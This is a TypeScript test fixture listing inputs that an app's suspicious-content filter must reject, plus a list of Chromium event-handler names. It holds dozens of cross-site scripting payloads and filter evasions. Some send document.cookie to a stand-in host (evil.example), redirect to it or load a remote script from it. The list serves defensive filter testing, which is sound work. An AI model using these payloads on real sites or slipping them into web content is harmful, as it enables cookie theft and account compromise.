/**
 * What the suspicious-content rule must refuse (app/shared/suspicious.ts): every example
 * SPEC §5 gives, the evasions a browser would still run (case, the whitespace and character
 * references it drops or decodes in a link's address, handlers written `onmouseover =`), and
 * common cross-site scripting payloads (OWASP's filter evasion cheat sheet, PortSwigger's list).
 */
const SPEC_EXAMPLES = [
  "<script>",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "onclick=",
  'onclick="alert(1)"',
  'eval("1+1")',
  "document.cookie",
  "window.location",
  '<iframe src="https://evil.example">',
  '<embed src="https://evil.example/x.swf">',
  '<object data="https://evil.example/x.html">',
] as const;

const EVASIONS = [
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "< script>alert(1)</script>",
  "<script\n>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</script>",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "JAVASCRIPT:alert(1)",
  "JavaScript:alert(document.domain)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "jav\r\nascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&#x3A;alert(1)",
  "javascript&colon;alert(1)",
  "jav&#x09;ascript:alert(1)",
  "jav&Tab;ascript:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript: alert(1)">x</a>',
  "<a href='javascript:\nalert(1)'>x</a>",
  "[click me](javascript:alert(1))",
  "background: url(javascript:alert(1))",
  "onmouseover =alert(1)",
  "ONLOAD=alert(1)",
  "onerror = alert(1)",
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  '" onpointerenter=alert(1) x="',
  "onbeforetoggle=alert(1)",
  "onanimationstart=alert(1)",
  "oncontentvisibilityautostatechange=alert(1)",
  "EVAL('1+1')",
  "eval (alert(1))",
  "eval(atob('YWxlcnQoMSk='))",
  "eval(location.hash.slice(1))",
  "document . cookie",
  "document. cookie",
  "document\n.cookie",
  'document["cookie"]',
  "document.write('<img src=x>')",
  "document.writeln('x')",
  "document.location='https://evil.example'",
  "window .location = 'https://evil.example'",
  "window['location']='https://evil.example'",
  "window.location.href='https://evil.example'",
  "<IFRAME SRC=https://evil.example>",
  "< iframe srcdoc='x'>",
  "<EMBED SRC=x>",
  "<OBJECT TYPE='text/x-scriptlet' DATA='https://evil.example/scriptlet.html'>",
] as const;

const PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img src=x/onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<div onpointerrawupdate=alert(1)>x</div>",
  "<a\nonmouseover=alert(1)>x</a>",
  "<x onbeforematch=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '"><script>alert(document.domain)</script>',
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<a onmouseover="alert(document.cookie)">link</a>',
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  '<a href="javas&#99;ript:alert(1)">x</a>',
  "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  "<svg><a href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "Hi, see my site <a href=\"javascript:fetch('//evil.example?c='+document.cookie)\">here</a>",
  "Please reply. <img src=x onerror=\"window.location='https://evil.example'\">",
  "';alert(String.fromCharCode(88,83,83))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
] as const;

export const INJECTION_PAYLOADS: readonly string[] = [...SPEC_EXAMPLES, ...EVASIONS, ...PAYLOADS];

/**
 * The event-handler attributes Chromium knows (listed in November 2026 from the window, document,
 * HTML, SVG and media prototypes of Debian's chromium), without their "on": each, written on its
 * own, must be refused.
 */
export const CHROMIUM_EVENT_HANDLERS = `
  abort afterprint animationcancel animationend animationiteration animationstart appinstalled
  auxclick beforecopy beforecut beforeinput beforeinstallprompt beforematch beforepaste
  beforeprint beforetoggle beforeunload beforexrselect begin blur cancel canplay canplaythrough
  change click close command contentvisibilityautostatechange contextlost contextmenu
  contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart
  drop durationchange emptied encrypted end ended error focus formdata freeze fullscreenchange
  fullscreenerror gamepadconnected gamepaddisconnected gotpointercapture hashchange input invalid
  keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart
  lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout
  mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause
  play playing pointercancel pointerdown pointerenter pointerleave pointerlockchange
  pointerlockerror pointermove pointerout pointerover pointerup popstate prerenderingchange
  progress ratechange readystatechange rejectionhandled repeat reset resize resume scroll
  scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking
  select selectionchange selectstart slotchange stalled storage submit suspend timeout timeupdate
  toggle transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
  visibilitychange volumechange waiting waitingforkey webkitanimationend webkitanimationiteration
  webkitanimationstart webkitfullscreenchange webkitfullscreenerror webkittransitionend wheel
`
  .trim()
  .split(/\s+/);
